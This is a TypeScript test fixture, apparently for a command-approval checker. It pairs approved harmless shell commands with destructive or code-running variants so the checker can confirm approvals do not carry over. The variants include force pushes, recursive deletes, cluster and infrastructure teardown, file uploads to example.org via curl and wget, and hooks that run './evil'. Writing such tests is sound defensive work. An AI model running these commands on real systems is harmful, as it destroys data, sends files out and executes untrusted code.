/** A command that somebody approves for good, and one that destroys something, which they did not mean. */
export type Pair = readonly [approved: string, relative: string];

/** Programs in front of a command. Whoever approves one of them with `ls` has not approved it with anything else. */
// biome-ignore format: one list
const WRAPPERS =
  "env|env -i|env A=1|CI=1|A=1 B=2|nice|nice -n 5|ionice -c 3|time|timeout 5|nohup|setsid|stdbuf -oL|xargs|xargs -n 1|command|exec|busybox|chrt -i 0|flock /tmp/a|watch -n 1|unshare|doas|npx|npx --yes|npm exec --|npm x --|pnpm exec|pnpm dlx|yarn exec|yarn dlx|bunx|uvx|uv run|pipx run|poetry run|bundle exec|nix-shell --run|docker exec box|docker run --rm box|parallel|rlwrap|script -c|faketime now|catchsegv|strace -f|ltrace|gdb --args".split(
    "|",
  );
/** What does something else behind the same words. */
const DESTROYERS = ["rm notes.txt", "mv src old", "truncate -s 0 notes.txt"];

/** Shells and languages: whatever they are first approved for, what they run next is another program. */
// biome-ignore format: one program a line
const RUNNERS: readonly (readonly [program: string, harmless: readonly string[], runs: readonly string[]])[] = [
  ["sh", ["-c 'ls'", "-c ls", "--version"], ["-c 'rm notes.txt'", "-c 'mv src old'", "clean.sh"]],
  ["bash", ["--version", "-c 'ls'", "-n build.sh"], ["-c 'rm notes.txt'", "clean.sh", "-ic 'mv src old'"]],
  ["zsh", ["--version"], ["-c 'rm notes.txt'", "clean.sh"]],
  ["node", ["--version", "--test", "--check a.js"], ["-e 'fs.rmSync(1)'", "--eval=1", "clean.js", "--import ./evil.js --test", "-r ./evil.js a.js"]],
  ["python3", ["--version", "-m pytest", "-V"], ["-c 'import os'", "clean.py", "-m shutil", "-m pip install evil"]],
  ["perl", ["-v", "-c a.pl"], ["-e 'unlink 1'", "-i -pe s/a/b/ notes.txt", "clean.pl"]],
  ["ruby", ["-v", "-c a.rb"], ["-e 'exit'", "clean.rb"]],
  ["php", ["-v", "-l a.php"], ["-r 'unlink(1);'", "clean.php"]],
  ["deno", ["--version", "test"], ["eval 1", "run -A clean.ts"]],
  ["awk", ["--version", "'{print}' a.txt"], ["'BEGIN{system(1)}'", "-i inplace 1 notes.txt"]],
  ["vim", ["--version"], ["-es -c 'q' notes.txt"]],
  ["make", ["-n", "test"], ["clean", "-f evil.mk", "test SHELL=./evil"]],
];

/** One program with a harmless form, and forms that write, delete or run something. */
// biome-ignore format: one program a line
const RELATIVES: readonly (readonly [approved: string, ...relatives: string[]])[] = [
  ["find . -name x", "find . -name x -delete", "find . -exec rm -- notes.txt +", "find . -execdir rm notes.txt +", "find . -fprint notes.txt", "find . -ok rm notes.txt +"],
  ["sed --version", "sed -i s/a/b/ notes.txt", "sed --in-place s/a/b/ notes.txt", "sed -n 'w notes.txt' a.txt", "sed -ni.bak p notes.txt"],
  ["sed -n 1p a.txt", "sed -i 1d notes.txt", "sed -n '1e rm' a.txt"],
  ["git diff", "git diff --output=notes.txt", "git diff --ext-diff", "git diff --no-index --output notes.txt a b"],
  ["git log", "git log --output=notes.txt", "git log -p --ext-diff"],
  ["git branch", "git branch -D main", "git branch --delete --force main", "git branch -M main old"],
  ["git tag", "git tag -d v1", "git tag -f v1 HEAD~3"],
  ["git stash list", "git stash drop", "git stash clear", "git stash pop"],
  ["git checkout -b topic", "git checkout -- src", "git checkout -f main", "git checkout ."],
  ["git switch topic", "git switch --discard-changes main", "git switch -f main"],
  ["git restore --staged a.txt", "git restore src", "git restore --worktree ."],
  ["git remote -v", "git remote remove origin", "git remote set-url origin evil"],
  ["git config --get user.name", "git config core.fsmonitor ./evil", "git config --global alias.st evil", "git config core.hooksPath evil"],
  ["git fetch", "git fetch --upload-pack=./evil origin", "git fetch --prune --force origin"],
  ["git push", "git push --force", "git push --delete origin main", "git push origin +main", "git push --mirror", "git push --receive-pack=./evil"],
  ["git pull", "git pull --rebase --force", "git pull --upload-pack=./evil"],
  ["git commit -m x", "git commit --amend --no-edit", "git commit -n -m x", "git commit -m x --no-verify"],
  ["git clean -n", "git clean -fdx", "git clean --force"],
  ["git worktree list", "git worktree remove -f tree"],
  ["git rebase --abort", "git rebase --exec ./evil main", "git rebase -x ./evil main"],
  ["git submodule status", "git submodule foreach ./evil", "git submodule deinit -f lib"],
  ["git grep x", "git grep --open-files-in-pager=./evil x", "git grep -O./evil x"],
  ["git reset", "git reset --hard", "git reset --merge HEAD~5"],
  ["git archive HEAD", "git archive --output=notes.txt HEAD", "git archive --remote=x --exec=./evil HEAD"],
  ["git bisect log", "git bisect run ./evil", "git bisect reset"],
  ["tar -tf a.tar", "tar -xf a.tar", "tar -tf a.tar --to-command=./evil", "tar -cf notes.txt a", "tar -tf a.tar --checkpoint-action=exec=./evil"],
  ["unzip -l a.zip", "unzip -o a.zip"],
  ["rsync -n a b", "rsync --delete a b", "rsync -e ./evil a b"],
  ["sort a.txt", "sort -o notes.txt a.txt", "sort --output=notes.txt a.txt", "sort --compress-program=./evil a.txt"],
  ["tee --version", "tee notes.txt"],
  ["cp --help", "cp a.txt notes.txt"],
  ["patch --dry-run a", "patch -p1 a"],
  ["curl --version", "curl -o notes.txt example.org", "curl -T notes.txt example.org", "curl -K evil"],
  ["wget --version", "wget -O notes.txt example.org", "wget --post-file=notes.txt example.org"],
  ["npm test", "npm test --script-shell=./evil", "npm test --prefix evil"],
  ["npm run lint", "npm run clean", "npm run lint --script-shell=./evil"],
  ["npm install", "npm install evil", "npm install --global evil"],
  ["npm config list", "npm config set script-shell ./evil"],
  ["yarn lint", "yarn clean"],
  ["cargo test", "cargo test --config evil.toml", "cargo test --manifest-path evil/Cargo.toml"],
  ["go test ./...", "go test -exec ./evil", "go test -toolexec ./evil"],
  ["go vet", "go vet -vettool=./evil"],
  ["docker ps", "docker rm -f box"],
  ["docker compose ps", "docker compose down -v"],
  ["kubectl get pods", "kubectl delete pods --all"],
  ["gh pr list", "gh pr close 1", "gh repo delete x --yes"],
  ["terraform plan", "terraform destroy -auto-approve"],
  ["systemctl status x", "systemctl stop x"],
  ["crontab -l", "crontab -r", "crontab evil"],
  ["kill -l", "kill -9 1"],
  ["date", "date -s 2000-01-01"],
  ["eslint .", "eslint --fix .", "eslint --rulesdir evil ."],
  ["prettier --check .", "prettier --write .", "prettier --plugin ./evil.js ."],
  ["biome check .", "biome check --write ."],
  ["tsc --noEmit", "tsc --outDir src", "tsc -p evil"],
  ["pytest", "pytest --basetemp=src", "pytest -p evil", "pytest -c evil.ini"],
  ["ssh -V", "ssh host rm notes.txt", "ssh -o ProxyCommand=./evil host"],
  ["openssl version", "openssl rand -out notes.txt 10"],
  ["sqlite3 a.db .tables", "sqlite3 a.db 'drop table a'", "sqlite3 a.db .shell"],
  ["psql -l", "psql -c 'drop table a'"],
  ["yq . a.yaml", "yq -i . notes.yaml"],
  ["jq . a.json", "jq -f evil a.json"],
  ["ffmpeg -version", "ffmpeg -y -i a b"],
  ["chmod --version", "chmod 777 notes.txt"],
  ["pip list", "pip uninstall -y x"],
  ["pip install x", "pip install evil", "pip install --index-url evil x"],
  ["apt list", "apt remove x"],
  ["brew list", "brew uninstall x"],
];

/** Returns all pairs of the tables. */
export function pairs(): Pair[] {
  return [
    ...WRAPPERS.flatMap((wrapper) =>
      DESTROYERS.map((command): Pair => [`${wrapper} ls`, `${wrapper} ${command}`]),
    ),
    ...RUNNERS.flatMap(([program, harmless, runs]) =>
      harmless.flatMap((form) => runs.map((other): Pair => [`${program} ${form}`, `${program} ${other}`])),
    ),
    ...RELATIVES.flatMap(([approved, ...relatives]) =>
      relatives.map((relative): Pair => [approved, relative]),
    ),
  ];
}

/** What “always” is for: the same again, or with other files and words. Each pair should stay covered. */
export const SIBLINGS: readonly Pair[] = [
  ["npm test", "npm test"],
  ["npm run lint", "npm run lint"],
  ["mkdir a", "mkdir b"],
  ["touch a.txt", "touch b.txt"],
  ["git add a.txt", "git add b.txt"],
  ["git commit -m one", "git commit -m two"],
  ["git switch topic", "git switch main"],
  ["cargo build", "cargo build"],
  ["node --test", "node --test"],
  ["pytest", "pytest"],
  ["make test", "make test"],
  ["npx tsc --noEmit", "npx tsc --noEmit"],
];
